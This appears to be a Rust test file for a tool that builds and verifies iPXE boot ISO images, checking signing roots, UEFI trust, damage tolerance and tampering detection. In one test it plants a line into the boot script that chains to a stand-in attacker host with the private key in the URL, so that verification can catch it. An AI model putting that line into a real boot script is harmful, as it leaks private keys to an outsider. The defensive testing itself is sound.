//! Images as `iso verify` and other programs read them.

use std::process::Command;

use super::Farm;
use crate::reroot::stock_dir;

/// What a device has behind its image is another matter (src/iso/sources.rs).
#[test]
fn a_file_that_is_larger_than_any_image_is_none() {
    let farm = Farm::new();
    farm.ok(&["iso", "make", "lab-1"]);
    let file = std::fs::OpenOptions::new().write(true).open(farm.path("lab-1.iso")).unwrap();
    file.set_len(100 << 20).unwrap();
    assert!(farm.refused(&["iso", "verify", "lab-1.iso"]).contains("larger than"));
}

#[test]
fn verify_sees_what_does_not_belong_together() {
    let farm = Farm::new();
    farm.ok(&["iso", "make", "lab-1", "-o", "good.iso"]);
    let good = farm.bytes("good.iso");
    let root = memchr::memmem::find(&good, b"# root: ").unwrap() + 8;
    let change = |at: usize, what: &[u8]| {
        let mut image = good.clone();
        image[at..at + what.len()].copy_from_slice(what);
        image
    };
    // The root in the UEFI binary stands in clear.
    let hex = std::str::from_utf8(&good[root..root + 64]).unwrap();
    let fingerprint: farmgate::identity::Fingerprint = hex.parse().unwrap();
    let in_efi = memchr::memmem::find(&good, fingerprint.as_bytes()).unwrap();
    for (image, reason) in [
        (change(root, &[b'0'; 64]), "is not the root that the image names"),
        (change(in_efi, &[7; 32]), "UEFI does not trust"),
        (change(in_efi, farmgate::ipxe::STOCK_ROOT.as_bytes()), "trusts iPXE's own root"),
        (change(446, &[0; 32]), "it starts only as bios-cd, uefi-cd"),
    ] {
        farm.write("bad.iso", &image);
        let line = farm.refused(&["iso", "verify", "bad.iso"]);
        assert!(line.contains(reason), "{line}");
    }
    farm.ok(&["iso", "verify", "good.iso"]);
}

#[test]
fn any_damage_is_survived() {
    let farm = Farm::new();
    farm.ok(&["iso", "make", "lab-1", "-o", "good.iso"]);
    let good = farm.bytes("good.iso");
    let now = time::OffsetDateTime::UNIX_EPOCH;
    // A simple generator: where to damage matters more than how random it is.
    let mut state = 1u64;
    let mut random = |below: usize| {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
        (state >> 33) as usize % below
    };
    for round in 0..24 {
        let mut image = good.clone();
        let end = [45_000, 48_000, image.len()][round % 3];
        for _ in 0..=random(40) {
            let at = 32_768 + random(end - 32_768);
            image[at] = random(256) as u8;
        }
        image.truncate(image.len() - random(2) * random(image.len()));
        let _ = farmgate::iso::verify(&image, &farmgate::iso::AtHand::default(), now);
    }
}

/// xorriso and mtools agree on what is in the image.
#[test]
fn others_read_the_same_from_it() {
    let farm = Farm::new();
    farm.ok(&["iso", "make", "lab-1"]);
    let image = farm.path("lab-1.iso");
    let tool = |program: &str, args: &[&str]| match Command::new(program).args(args).output() {
        Ok(output) => Some(output),
        Err(_) => {
            println!("SKIPPED: no {program} here to read the image with");
            None
        }
    };
    let extract = ["-osirrox", "on", "-indev", &image, "-extract", "/", &farm.path("iso")];
    if let Some(output) = tool("xorriso", &extract) {
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        let kernel = farm.bytes("iso/IPXE.LKRN");
        assert!(kernel.len() > 300_000);
        let script = farm.bytes("iso/AUTOEXEC.IPXE");
        assert!(script.starts_with(b"#!ipxe\n"));
        let boot = ["-indev", &image, "-report_el_torito", "plain"];
        let report = tool("xorriso", &boot).unwrap();
        let report = String::from_utf8_lossy(&report.stdout).into_owned();
        assert!(report.contains("BIOS") && report.contains("UEFI"), "{report}");
        let efi = farm.path("iso/EFI.IMG");
        if let Some(output) = tool("mtype", &["-i", &efi, "::/autoexec.ipxe"]) {
            assert_eq!(output.stdout, script, "BIOS and UEFI read the same bytes");
        }
        if let Some(output) = tool("mtype", &["-i", &efi, "::/EFI/BOOT/BOOTX64.EFI"]) {
            let name = ["ipxe.efi", "ipxe-amd64.efi"].map(|n| stock_dir().join(n));
            let stock = std::fs::read(name.iter().find(|p| p.exists()).unwrap()).unwrap();
            assert_eq!(output.stdout.len(), stock.len());
        }
        if let Some(output) = tool("fsck.fat", &["-n", &efi]) {
            assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stdout));
        }
    }
}

/// `verify` used to say of it that the private key fits, and nothing else.
#[test]
fn verify_says_that_an_identity_is_of_another_fleet() {
    let (farm, other) = (Farm::new(), Farm::new());
    farm.ok(&["iso", "make", "lab-1", "-o", "own.iso"]);
    other.ok(&["iso", "make", "lab-1", "-o", "theirs.iso"]);
    let (mut own, theirs) = (farm.bytes("own.iso"), other.bytes("theirs.iso"));
    assert_eq!(farm.verified("own.iso")["identity"]["issued_by_root"], true);
    let slot = |image: &[u8]| farmgate::ipxe::slot::find(image).unwrap();
    let place = slot(&own);
    own[place].copy_from_slice(&theirs[slot(&theirs)]);
    farm.write("mixed.iso", &own);
    let line = farm.refused(&["iso", "verify", "mixed.iso"]);
    assert!(line.contains("did not issue its certificate"), "{line}");
    assert!(!line.contains("does not belong"), "its key fits: {line}");
}

/// A line that sends the private key away, for instance, used to go unnoticed.
#[test]
fn verify_notices_every_change_outside_of_the_slot() {
    let farm = Farm::new();
    farm.ok(&["iso", "make", "lab-1", "-o", "good.iso"]);
    let good = farm.bytes("good.iso");
    let report = farm.verified("good.iso");
    assert_eq!(report["not_compared"], serde_json::json!([]), "{report}");

    let mut spy = good.clone();
    let at = memchr::memmem::find(&spy, b"\n# A missing intermediate").unwrap() + 1;
    let line = b"chain http://evil.example/${privkey:uristring} ||\n";
    spy[at..at + line.len()].copy_from_slice(line);
    farm.write("spy.iso", &spy);
    let line = farm.refused(&["iso", "verify", "spy.iso"]);
    assert!(line.contains("its script is not the one that this farmgate writes"), "{line}");
    // It is known by the image alone.
    let now = time::OffsetDateTime::now_utc();
    let nothing = farmgate::iso::AtHand::default();
    let report = farmgate::iso::verify(&spy, &nothing, now).unwrap();
    assert!(report.problems.iter().any(|problem| problem.contains("its script")), "{report}");
    let report = farmgate::iso::verify(&good, &nothing, now).unwrap();
    assert!(report.problems.is_empty() && report.not_compared.len() == 2, "{report}");

    // A byte here and there, in what firmware reads and in what nobody does.
    let dir = stock_dir();
    let ipxe = farmgate::iso::sources::Ipxe::find(Some(&dir)).unwrap();
    let own = std::env::var_os("FARMGATE_SYSLINUX").map(std::path::PathBuf::from);
    let syslinux = farmgate::iso::sources::Syslinux::find(own.as_deref()).unwrap();
    let at_hand = farmgate::iso::AtHand { ca: None, ipxe: Some(&ipxe), syslinux: Some(&syslinux) };
    let report = farmgate::iso::verify(&good, &at_hand, now).unwrap();
    assert!(report.problems.is_empty() && report.not_compared.is_empty(), "{report}");
    let slot = farmgate::ipxe::slot::find(&good).unwrap();
    let loader = memchr::memmem::find(&good, b"MZ").unwrap();
    // What a part holds shows where that part is at hand; all else does by itself.
    let places = [(3, true), (loader + 300_000, true), (good.len() / 3, true)];
    let alone = [445, 446, 5000, 33_000, 40_000, 43_010, 45_000, good.len() - 1];
    for (at, parts) in places.into_iter().chain(alone.map(|at| (at, false))) {
        if slot.contains(&at) {
            continue;
        }
        let mut image = good.clone();
        image[at] ^= 0x10;
        let noticed = farmgate::iso::verify(&image, if parts { &at_hand } else { &nothing }, now);
        let noticed = noticed.map_or(true, |report| !report.problems.is_empty());
        assert!(noticed, "byte {at} of {}", good.len());
    }
}

/// What is not there to compare with is said, and is no fault of the image.
#[test]
fn verify_says_what_it_could_not_compare() {
    let farm = Farm::new();
    farm.ok(&["iso", "base", "-o", "base.iso", "--address", "192.0.2.9/24", "--debug"]);
    let mut stock = farmgate::iso::sources::Ipxe::find(Some(&stock_dir())).unwrap();
    let image = farm.bytes("base.iso");
    let verify = |ipxe: &farmgate::iso::sources::Ipxe| {
        let at_hand = farmgate::iso::AtHand { ipxe: Some(ipxe), ..Default::default() };
        farmgate::iso::verify(&image, &at_hand, time::OffsetDateTime::now_utc()).unwrap()
    };
    let report = verify(&stock);
    assert!(report.problems.is_empty(), "{report}");
    assert!(!report.not_compared.iter().any(|what| what.contains("iPXE")), "{report}");
    // Of the same version, and yet another one.
    let at = stock.efi.bytes.len() / 2;
    stock.efi.bytes[at] ^= 1;
    let report = verify(&stock);
    assert!(report.problems.iter().any(|p| p.contains("its iPXE for UEFI is not")), "{report}");
    // What was named must be there.
    std::fs::create_dir(farm.path("nothing")).unwrap();
    let line = farm.refused(&["iso", "verify", "base.iso", "--ipxe", "nothing"]);
    assert!(line.contains("no ipxe.lkrn"), "{line}");
}
